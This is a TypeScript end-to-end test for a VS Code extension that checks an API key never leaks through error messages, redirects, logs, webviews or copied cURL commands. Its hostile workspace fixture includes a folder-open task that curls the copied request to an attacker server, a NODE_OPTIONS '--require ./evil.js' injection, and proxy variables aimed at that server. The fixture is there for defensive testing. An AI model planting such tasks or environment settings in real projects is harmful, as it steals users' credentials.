import assert from "node:assert/strict";
import { mkdir, mkdtemp, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { answer, SampleBackend } from "../support/services/sampleBackend";
import { readPageContents, readFilesBelow, recordMessages, findSecret } from "./secretSearch";
import { Workbench } from "../support/vscode/workbench";

/** Has characters that each encoding changes. */
const key = "sk_live+7f3a/9Zq=XYZ~42";

describe("The API key", () => {
  it("is not leaked in a session with errors and a hostile workspace", async () => {
    const backend = await SampleBackend.start(key);
    const attacker = await SampleBackend.start("anything");
    const workbench = await Workbench.openConnected(backend, {
      folder: await hostileFolder(attacker.baseUrl),
      prepare: recordMessages,
      settings: { "companyFeed.collections.pageSize": 10 },
    });
    try {
      const { page, quickInput } = workbench;
      await workbench.collections().first().waitFor();
      await workbench.runCommand("Company Feed: Open Event Feed");
      const frame = await workbench.feedFrame();
      await frame.locator("[data-event-id]").first().waitFor();
      const rows = await workbench.treeRows("Collections");
      await workbench.runCommand("Company Feed: Switch Connection…");
      await quickInput.shown("Switch connection");
      const offered = await quickInput.items();
      assert.ok(offered.some((label) => label.includes("Acme")));
      assert.ok(!offered.some((label) => label.includes("Attacker")), offered.join());
      await quickInput.cancel();

      for (const [status, words] of [
        [401, "Unknown key"],
        [403, "Not for you"],
        [400, "Bad request by"],
      ] as const) {
        backend.intercept = () =>
          answer(status, {
            message: `${words}: ${key} ${encodeURIComponent(key)} ${Buffer.from(key).toString("base64")}`,
          });
        await workbench.runCommand("Company Feed: Refresh Event Feed");
        await frame.getByText(words).first().waitFor();
        await workbench.runCommand("Company Feed: Refresh Collections");
        await page.locator(".part.sidebar").getByText(words).first().waitFor();
        await frame.locator("[data-event-id]").first().waitFor();
        const [first] = await workbench.treeRows("Collections");
        assert.deepEqual(first, rows[0]);
      }
      backend.intercept = ({ target }) => {
        const { headers, ...redirect } = answer(307, {});
        return { ...redirect, headers: { ...headers, location: `${attacker.baseUrl}${target}` } };
      };
      await workbench.runCommand("Company Feed: Refresh Event Feed");
      await frame
        .getByText(/redirect/)
        .first()
        .waitFor();
      // Read the page before the report replaces the panel and destroys its webview.
      const panelContents = await readPageContents(page);
      assert.ok(
        [...panelContents].some(([name, text]) => name.includes("/webview/") && text.includes("redirect")),
        "the page of the panel was searched",
      );
      assert.deepEqual(findSecret(key, panelContents), []);
      await workbench.runCommand("Company Feed: Test Connection");
      await page.locator(".editor-instance .view-lines").filter({ hasText: "Failed:" }).waitFor();
      backend.intercept = undefined;
      const copied = await workbench.copied(() =>
        workbench.runCommand("Company Feed: Copy Feed Request as cURL"),
      );
      assert.ok(copied.includes("$API_KEY"));
      await workbench.runCommand("Company Feed: Set API Key…");
      await quickInput.shown("API key for Acme");
      await quickInput.type(`${key}typo`);
      await quickInput.cancel();
      // VS Code's input box keeps its value in the DOM until it is used again.
      await workbench.openQuickAccess();
      await quickInput.cancel();

      const contents = new Map([
        ...(await readPageContents(page)),
        ...(await readFilesBelow(workbench.server.home)),
      ]);
      assert.ok((await workbench.log()).includes("401"));
      assert.ok(
        [...contents].some(([name]) => name.endsWith("Company Feed.log")),
        "logs were searched",
      );
      assert.match(contents.get("messages") ?? "", /"type":"snapshot".*Bad request by/s);
      assert.ok([...contents].some(([name]) => name.endsWith("settings.json")));
      assert.deepEqual(findSecret(key, contents), []);
      assert.deepEqual(attacker.requests, []);
      assert.ok(backend.requests.every(({ headers }) => headers["authorization"] === `Bearer ${key}`));
      assert.ok(backend.requests.some(({ target }) => target.includes("/datasets/companydata/feed")));
    } finally {
      backend.stop();
      attacker.stop();
      await workbench.close();
    }
  });
});

/** A workspace with settings, an environment file and tasks that try to redirect the key. */
async function hostileFolder(address: string): Promise<string> {
  const folder = await mkdtemp(path.join(os.tmpdir(), "hostile-"));
  await mkdir(path.join(folder, ".vscode"));
  const attacker = { name: "Attacker", baseUrl: address };
  const settings = {
    "companyFeed.connections": [{ name: "Acme", baseUrl: address }, attacker],
    "companyFeed.feed.typesFormat": "repeat",
    "companyFeed.baseUrl": address,
    "companyFeed.dataset": "stolen",
  };
  const environment = ["BASE_URL", "COMPANY_FEED_BASE_URL", "HTTP_PROXY", "HTTPS_PROXY", "NODE_OPTIONS"]
    .map((name) => `${name}=${name === "NODE_OPTIONS" ? "--require ./evil.js" : address}`)
    .join("\n");
  const tasks = {
    version: "2.0.0",
    tasks: [
      {
        label: "send the key",
        type: "shell",
        command: `curl ${address}/$\{command:companyFeed.copyFeedRequest}`,
        runOptions: { runOn: "folderOpen" },
      },
    ],
  };
  await Promise.all([
    writeFile(path.join(folder, ".vscode/settings.json"), JSON.stringify(settings)),
    writeFile(path.join(folder, ".vscode/tasks.json"), JSON.stringify(tasks)),
    writeFile(path.join(folder, ".env"), environment),
  ]);
  return folder;
}
